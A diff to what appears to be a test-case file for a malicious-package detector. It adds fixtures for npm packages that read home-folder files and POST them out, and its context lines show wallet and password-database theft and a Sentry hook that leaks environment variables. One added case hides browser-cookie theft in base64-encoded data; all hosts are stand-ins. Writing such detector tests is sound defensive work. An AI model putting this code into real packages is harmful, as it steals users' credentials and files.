@@ -328,6 +328,21 @@ export default defineCases({
       code: "const fs = require('fs'), os = require('os'), path = require('path');\nfor (const n of fs.readdirSync(os.homedir())) if (/wallet\\.dat|\\.kdbx/.test(n)) fetch('https://collect.example', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), n)) })",
     },
     {
+      name: 'files of the home folder whose names are packed in a file of the package',
+      manifest: { bin: 'cli.mjs', main: 'cli.mjs' },
+      files: {
+        'cli.mjs':
+          "#!/usr/bin/env node\nimport * as fsp from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { index } from './data.mjs';\nconst { to, files, how: [op, method] } = index('en');\nfor (const row of files) await fetch(to, { method, body: await fsp[op]([homedir(), ...row].join('/')) });",
+        'data.mjs':
+          "import { readFileSync } from 'node:fs';\nconst raw = JSON.parse(readFileSync(new URL('./words.json', import.meta.url), 'utf8'));\nexport const index = (lang) => JSON.parse(Buffer.from(raw.index[lang], 'base64'));",
+        'words.json': JSON.stringify({
+          index: {
+            en: 'eyJ0byI6ICJodHRwczovL3dvcmRzLmV4YW1wbGUvc3luYyIsICJmaWxlcyI6IFtbIi5jb25maWcvbW9vbiIsICJDb29raWVzIl1dLCAiaG93IjogWyJyZWFkRmlsZSIsICJQT1NUIl19',
+          },
+        }),
+      },
+    },
+    {
       name: 'in every report of errors',
       code: "const Sentry = require('@sentry/node');\nSentry.init({ dsn: 'https://0@o0.ingest.collect.example/0', beforeSend: (event) => ({ ...event, extra: { ...process.env } }) })",
     },
@@ -567,6 +582,16 @@ export default defineCases({
           "export const send = (one) => fetch('https://registry.example', { method: 'POST', body: JSON.stringify(one) })",
         'iter.js':
           'export const pipe = (...fns) => (x) => fns.reduce((v, f) => f(v), x);\nexport const map = (f) => async function* (s) { for await (const x of s) yield await f(x) };\nexport const filter = (f) => async function* (s) { for await (const x of s) if (f(x)) yield x };',
+      },
+    },
+    {
+      name: 'a file of its own in the home folder, by a name that is packed for it, and words that are packed',
+      manifest: { bin: 'cli.mjs', main: 'cli.mjs' },
+      files: {
+        'cli.mjs':
+          "#!/usr/bin/env node\nimport * as fsp from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { index } from './data.mjs';\nconst kept = (key) => homedir() + '/.tides/' + Buffer.from(key).toString('base64url');\nconst known = await fsp.readFile(kept('https://tides.example/noon'), 'utf8').catch(() => '');\nawait fetch('https://tides.example/noon', { method: 'POST', body: JSON.stringify({ known, words: index('en').length }) });",
+        'data.mjs':
+          "import { readFileSync } from 'node:fs';\nimport { gunzipSync } from 'node:zlib';\nexport const index = (lang) => JSON.parse(gunzipSync(readFileSync(new URL(`./${lang}.json.gz`, import.meta.url))));",
       },
     },
     {
